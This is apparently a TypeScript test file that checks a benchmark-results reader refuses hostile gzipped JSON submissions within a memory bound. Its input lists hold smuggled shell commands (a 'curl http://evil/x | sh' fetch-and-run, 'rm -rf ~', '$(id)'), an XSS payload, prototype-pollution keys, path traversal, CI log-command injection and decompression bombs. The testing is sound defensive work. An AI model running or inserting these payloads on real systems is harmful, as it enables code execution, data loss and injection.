/** Files that somebody submits to do harm: each is refused in a sentence, within bounds of memory, or it is still honest. */
import { execFile } from 'node:child_process';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { folderOfAllTests } from '../../tests/folders.ts';
import type { ReadFile } from '../test-data/read-submitted.ts';
import { type KeptRun, nameOf, readKeptFile } from './kept-file.ts';
import { readKept } from './kept-runs.ts';

const MOST_MIB = 300;
const READER = join(import.meta.dirname, '../test-data/read-submitted.ts');

const folder = folderOfAllTests();

// biome-ignore lint/suspicious/noExplicitAny: what is broken here is any JSON.
type Json = any;

async function honest(name: string): Promise<Json> {
  const { written, replicates, ...kept } = await readKept(name);
  const chosen = (written.cells as Json[]).flatMap(({ trials }, index) => (trials >= 3 ? [index] : [])).slice(0, 4);
  const pick = (all: readonly Json[]) => chosen.map((index) => all[index]);
  const summary = { ...written, startedAt: '2026-01-01T10:00:00.000Z', cells: pick(written.cells) };
  return { ...kept, replicates: replicates && pick(replicates), summary };
}
const typing = await honest('2026-11-23T0025-compare');
const documents = await honest('2026-11-22-at-rest');

/** Under the name that its content asks for, as far as it does. */
async function write(index: number, content: Json): Promise<string> {
  const path = join(await mkdtemp(folder.in(`${index}-`)), `${nameOf(typing)}.json.gz`);
  await writeFile(path, content instanceof Uint8Array ? content : gzipSync(JSON.stringify(content)));
  return path;
}

async function read(paths: readonly string[]): Promise<{ files: ReadFile[]; mostMiB: number }> {
  const { stdout } = await promisify(execFile)(process.execPath, [READER, ...paths], { maxBuffer: 1e9 });
  return JSON.parse(stdout);
}

/** A copy that one change makes hostile; a path such as `summary.cells.0.framework`. */
function changed(kept: Json, path: string, value: unknown): Json {
  const copy = structuredClone(kept);
  const names = path.split('.');
  const last = names.pop()!;
  const parent = names.reduce((each, name) => (each[name] ??= {}), copy);
  // Not by assignment, which would set the prototype.
  Object.defineProperty(parent, last, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

const NAMES = [
  'yjs --out /tmp/x; curl http://evil/x | sh #',
  'yjs\ncurl http://evil/x | sh',
  ...[
    '__proto__',
    'constructor',
    'constructor@1',
    'toString+presence',
    'toString',
    '-rf',
    '',
    '../../x',
    '<img src=x onerror=alert(1)>',
    'a\x1b[2J',
    '::error::',
  ],
  ...['$(id)', '`id`', "a'b", 'y\u202es', 'x'.repeat(200), 5, null, { toString: 1 }],
];
const IN_TYPING: Record<string, unknown[]> = {
  'summary.cells.0.framework': NAMES,
  'summary.cells.0.mode': NAMES,
  'summary.experiment': NAMES,
  'summary.cells.0.version': ['1\n::error::', '<script>', 'x'.repeat(300), 7],
  'summary.startedAt': ['/../../..', '', 'yesterday', '2026-01-01', '2099-01-01T10:00:00.000Z', 0],
  campaign: ['x; rm -rf ~ #', '../../x', '__proto__'].flatMap((name) =>
    ['campaign', 'part', 'entry'].map((which) => ({
      ...{ campaign: 'first-question', part: 'comparison', entry: 'young', question: 'How?', block: 1, deposit: false },
      [which]: name,
    })),
  ),
  'summary.cells.0.localLatencyMs.p50': [-5, 1e300, '38', [38], true],
  'summary.cells.0.endToEndLatencyMs.samples': [-1, 1.5, 1e30],
  'summary.cells.0.throughputPercent': [-1, 150],
  'summary.cells.0.machineCpuPercent': [-1, 1e6],
  'summary.cells.0.users': [0, -4, 1.5, 1297, 9e15, '4'],
  'summary.cells.0.trials': [1e9, 2, -3, 3.5],
  'summary.cells.0.validTrials': [4, 2, -1],
  'summary.cells.0.failedTrials': [1, -1],
  'summary.cells.0.ci95.throughputPercent': [
    { low: 9, high: 1 },
    { low: 'x', high: 1 },
  ],
  'summary.cells.0.notes': [null, 'x', [5], {}],
  'summary.cells.0.messages': [null, 'x', [5], [{ code: 'x', rank: 'none', text: 'x', trials: [] }]],
  'summary.cells.0.__proto__': [{ framework: 'x' }],
  'summary.cells.0': [null, 'x', [], { framework: 'yjs', mode: 'noquill' }],
  'summary.cells': [null, {}, 'x', [], Array.from({ length: 20_000 }, () => ({ framework: 'yjs', mode: 'node' }))],
  'summary.scenario': ['typing', 'rest', 'x', null],
  'summary.schemaVersion': [2, null],
  'summary.environment': [null, [], {}],
  'summary.environment.cpu': [null, { toString: 1 }, 'x\n::error title=::y', 5],
  'summary.environment.cores': ['2', -1, 1e300],
  summary: [null, [], 'x', 5],
  plan: [null, [], {}, 'x'],
  'plan.experiment': [null, [], 'x'],
  'plan.experiment.network': [null, { groups: 'x' }, { groups: [null] }, { groups: [{ link: 5 }] }],
  'plan.experiment.typing': [null, { rhythm: NAMES[0] }, { keysPerSecond: { toString: 1 } }],
  'plan.experiment.durations': [null, {}, { warmUpMs: 'x', measureMs: 1 }],
  'plan.experiment.fleet': [null, { on: NAMES[0] }],
  'plan.experiment.trace': [NAMES[0], 5],
  replicates: [null, {}, [5], [{ x: ['y'] }], [{ x: [1e300] }], [{}]],
  'replicates.0.throughputPercent': [[1, 2, 3, 4], Array(95_000).fill(1)],
};
const IN_DOCUMENTS: Record<string, unknown[]> = {
  'summary.cells.0.store': [undefined, { toString: 1 }, ...NAMES.slice(0, 4)],
  'summary.cells.0.bytesPerEdit': [-1, 1e300, '5', { toString: 1 }],
  'summary.cells.0.curves': [null, { x: { x: ['a'], y: [] } }],
  'summary.scenario': ['__proto__', 'constructor', 'typing', undefined],
};
const deep = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const FILES: Record<string, Uint8Array> = {
  none: Buffer.from(''),
  'not packed': Buffer.from('{}'),
  'cut off': gzipSync(JSON.stringify(typing)).subarray(0, 1000),
  'not JSON': gzipSync('{'),
  'a bomb of spaces': Buffer.concat(Array(20).fill(gzipSync(Buffer.alloc(30e6, ' ')))),
  'a million lists': gzipSync(`[${'[],'.repeat(1_300_000)}[]]`),
  'a million objects': gzipSync(`[${'{},'.repeat(1_300_000)}{}]`),
  numbers: gzipSync(`[${'1,'.repeat(2_000_000)}1]`),
  'deep lists': gzipSync(deep(1_000_000)),
  'a deep plan': gzipSync(JSON.stringify({ ...typing, plan: { experiment: { x: '?' } } }).replace('"?"', deep(90_000))),
  'wrong everywhere': gzipSync(JSON.stringify({ ...typing, replicates: Array.from({ length: 95_000 }, () => 'x') })),
};

test('hostile files are refused, each in a sentence, and take no memory', async () => {
  const cases: [string, Json][] = [
    ...Object.entries(IN_TYPING).flatMap(([path, values]) =>
      values.map((value): [string, Json] => [`${path} ${JSON.stringify(value)}`, changed(typing, path, value)]),
    ),
    ...Object.entries(IN_DOCUMENTS).flatMap(([path, values]) =>
      values.map((value): [string, Json] => [`${path} ${JSON.stringify(value)}`, changed(documents, path, value)]),
    ),
    ...Object.entries(FILES),
  ];
  const paths = await Promise.all(cases.map(([, content], index) => write(index, content)));
  const { files, mostMiB } = await read(paths);
  const said = files.map(
    ({ message, isTold }, index) => [cases[index]![0].slice(0, 120), isTold, message === null] as const,
  );
  expect(said.filter(([, isTold, isAccepted]) => !isTold || isAccepted)).toEqual([]);
  // A sentence, not the whole file.
  expect(Math.max(...files.map(({ message }) => message!.length))).toBeLessThan(5000);
  expect(mostMiB).toBeLessThan(MOST_MIB);
});

test('an honest run is accepted; one under another’s name is not', async () => {
  const paths = [await write(0, typing), await write(1, documents)];
  const { files } = await read(paths);
  expect(files[0]).toMatchObject({ message: null });
  expect(files[1]!.message).toMatch(/must be named by its start and its experiment: 2026-01-01T1000-at-rest\.json\.gz/);
});

const LEAVES = leavesOf(typing).filter((path) => !/^plan|^replicates/.test(path));
function leavesOf(value: Json, path = ''): string[] {
  if (typeof value !== 'object' || value === null) return [path];
  return Object.entries(value).flatMap(([name, each]) => leavesOf(each, path === '' ? name : `${path}.${name}`));
}
const hostileValue = fc.oneof(
  fc.constantFrom(...NAMES),
  fc.double(),
  fc.constantFrom(-1, 1e9, 1e300, Number.MAX_SAFE_INTEGER, 0.5, 101, null, undefined),
  fc.jsonValue({ maxDepth: 2 }),
  fc.string({ unit: 'binary' }),
);
/** Ends of names with dots in them are no paths: those change nothing that exists, and add what no one reads. */
const hostileFile = fc
  .array(fc.tuple(fc.constantFrom(...LEAVES), fc.nat({ max: 2 }), hostileValue), { minLength: 1, maxLength: 4 })
  .map((changes) =>
    changes.reduce((kept, [leaf, up, value]) => {
      const path = leaf
        .split('.')
        .slice(0, Math.max(1, leaf.split('.').length - up))
        .join('.');
      try {
        return changed(kept, path, value);
      } catch {
        return kept;
      }
    }, typing as Json),
  );

test('of 200 changed files none is accepted that is not still honest', async () => {
  const contents = fc.sample(hostileFile, 200);
  const paths = await Promise.all(contents.map((content, index) => write(index, content)));
  const { files, mostMiB } = await read(paths);
  expect(files.filter(({ isTold }) => !isTold)).toEqual([]);
  expect(mostMiB).toBeLessThan(MOST_MIB);
  const accepted = files.filter(({ message }) => message === null);
  for (const { path, commands } of accepted) {
    expectHonest(await readKeptFile(path));
    for (const command of commands) expect(command).toMatch(/^[\w@.,+ -]*$/);
  }
  expect(accepted.length).toBeLessThan(120);
});

function expectHonest({ written }: KeptRun): void {
  for (const cell of written.cells as Json[]) {
    const { framework, mode, users, trials, validTrials, failedTrials } = cell;
    for (const name of [framework, mode]) expect(name).toMatch(/^[A-Za-z0-9][\w.@+-]*$/);
    expect({}).not.toHaveProperty(framework);
    expect(users % 1 === 0 && users >= 1 && users <= 1296).toBe(true);
    expect(validTrials >= 0 && failedTrials >= 0 && validTrials + failedTrials <= trials).toBe(true);
    for (const latency of [cell.localLatencyMs, cell.endToEndLatencyMs, cell.responseTimeMs])
      for (const value of [latency.p50, latency.p95, latency.p99])
        expect(value === null || (value >= 0 && value <= 86_400_000)).toBe(true);
    for (const [name, value] of Object.entries(cell))
      if (/InTimePercent|^(throughput|sigils)/.test(name) && typeof value === 'number')
        expect(value >= 0 && (value <= 100 || name === 'sigilsSeen'), name).toBe(true);
  }
}
